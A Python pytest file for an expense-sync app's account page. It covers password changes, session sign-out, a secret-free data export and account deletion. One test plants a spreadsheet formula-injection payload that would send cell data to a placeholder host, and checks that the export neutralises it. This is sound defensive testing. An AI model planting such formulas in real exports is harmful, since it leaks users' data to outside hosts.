"""Mi cuenta: password change, signing out other sessions, one's data downloaded and erased."""

import csv
import io
import json
import zipfile

import pytest
from helpers import PURCHASE, UNKNOWN_TYPE, csrf_token, raw, store, sync_row

from expense_sync import crypto
from expense_sync.extensions import db, get_redis
from expense_sync.models import (
    EmailAccount,
    Expense,
    SyncSession,
    SyncSessionAccount,
    UnreadableEmail,
    User,
)
from expense_sync.progress import Progress, session_key

PASSWORD, NEW = "contraseña-segura", "otra frase larga y secreta"


@pytest.fixture
def ana(app, auth):
    user_id = auth.create()
    auth.login()
    return user_id


def post(client, path, **data):
    return client.post(path, data={"csrf_token": csrf_token(client, "/me")} | data)


def second_browser(app, auth_password=PASSWORD):
    browser = app.test_client()
    browser.post(
        "/login",
        data={
            "email": "ana@example.cr",
            "password": auth_password,
            "csrf_token": csrf_token(browser),
        },
    )
    assert browser.get("/accounts").status_code == 200
    return browser


def test_changing_the_password_signs_out_the_other_browsers(app, client, ana):
    other = second_browser(app)
    response = post(client, "/me/password", current=PASSWORD, password=NEW, confirm=NEW)
    assert response.status_code == 302
    assert client.get("/accounts").status_code == 200  # this browser stays in
    assert other.get("/accounts").status_code == 302
    second_browser(app, NEW)


def test_a_wrong_current_password_changes_nothing(app, client, ana):
    html = post(client, "/me/password", current="no-es-esta", password=NEW, confirm=NEW).get_data(
        as_text=True
    )
    assert "La contraseña actual no es correcta." in html
    second_browser(app)  # the old password still works


def test_a_weak_new_password_is_refused(client, ana):
    html = post(
        client, "/me/password", current=PASSWORD, password="123456789012", confirm="123456789012"
    ).get_data(as_text=True)
    assert "fácil de adivinar" in html


def test_signing_out_the_other_sessions(app, client, ana):
    other = second_browser(app)
    post(client, "/me/sessions")
    assert other.get("/accounts").status_code == 302
    assert client.get("/accounts").status_code == 200


def seeded(app, user_id: int) -> None:
    """An account with an IMAP password, a finished sync, an expense and a kept mail."""
    with app.app_context():
        row = sync_row(user_id)
        row.email_account.imap_password_encrypted = crypto.encrypt("clave-del-buzón")
        store(row, raw(PURCHASE), raw(UNKNOWN_TYPE))
        Progress(get_redis()).set_status(row.sync_session.token, "completed")


def test_download_holds_everything_and_no_secret(app, client, ana):
    seeded(app, ana)
    response = client.get("/me/data.zip")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert set(archive.namelist()) == {
        "datos.json",
        "gastos.csv",
        "cuentas.csv",
        "sincronizaciones.csv",
        "correos_guardados.csv",
    }
    data = json.loads(archive.read("datos.json"))
    assert data["usuario"]["email"] == "ana@example.cr"
    assert [e["comercio"] for e in data["gastos"]] == ["AUTOMERCADO LOS YOSES"]
    assert [m["reason"] for m in data["correos_guardados"]] == ["unknown_type"]
    assert len(data["sincronizaciones"]) == 1 and len(data["cuentas"]) == 1
    everything = b"".join(archive.read(name) for name in archive.namelist())
    for secret in (b"clave-del-bu", b"scrypt:", b"password", b"session_nonce"):
        assert secret not in everything
    assert "AUTOMERCADO LOS YOSES" in archive.read("gastos.csv").decode("utf-8-sig")


def test_deleting_the_account_erases_all_of_it(app, client, ana, auth):
    seeded(app, ana)
    auth.create("beto@example.cr")
    with app.app_context():
        seeded_beto = sync_row(
            db.session.scalars(db.select(User.id).filter_by(email="beto@example.cr")).one()
        )
        store(seeded_beto, raw(PURCHASE))
        token = db.session.scalars(db.select(SyncSession.token).filter_by(user_id=ana)).one()
    with app.app_context():
        assert get_redis().exists(session_key(token))
    refused = post(client, "/me/delete", password="no-es-esta")
    assert refused.status_code == 422
    response = post(client, "/me/delete", password=PASSWORD)
    assert response.status_code == 302 and response.headers["Location"] == "/login"
    assert client.get("/accounts").status_code == 302
    with app.app_context():
        for model in (User, EmailAccount, SyncSession, Expense, UnreadableEmail):
            owners = {
                row.user_id if model is not User else row.id
                for row in db.session.scalars(db.select(model))
            }
            assert ana not in owners, model.__name__
        assert db.session.scalar(db.select(db.func.count()).select_from(Expense)) == 1  # Beto's
        assert db.session.scalar(db.select(db.func.count()).select_from(SyncSessionAccount)) == 1
        assert not get_redis().exists(session_key(token))


def test_an_account_with_a_sync_running_is_not_deleted(app, client, ana):
    with app.app_context():
        row = sync_row(ana)
        row.sync_session.status = "running"
        db.session.commit()
    response = post(client, "/me/delete", password=PASSWORD)
    assert response.status_code == 409
    assert "sincronización en curso" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.get(User, ana) is not None


def test_the_download_neutralises_formulas_from_mail(app, client, ana):
    hostile = raw(UNKNOWN_TYPE).replace(
        b"Subject: =?utf-8?q?Notificaci=C3=B3n_de_transacci=C3=B3n?= HOTEL PLAYA",
        b'Subject: =HYPERLINK("http://x/?"&A1)',
    )
    with app.app_context():
        store(sync_row(ana), hostile)
    archive = zipfile.ZipFile(io.BytesIO(client.get("/me/data.zip").data))
    mail_csv = archive.read("correos_guardados.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(mail_csv)))
    assert rows[0]["subject"].startswith("'=HYPERLINK(")
    accounts = json.loads(archive.read("datos.json"))["cuentas"]
    assert accounts[0]["local_path"] == "x.mbox"  # as its user knows it, not the server's
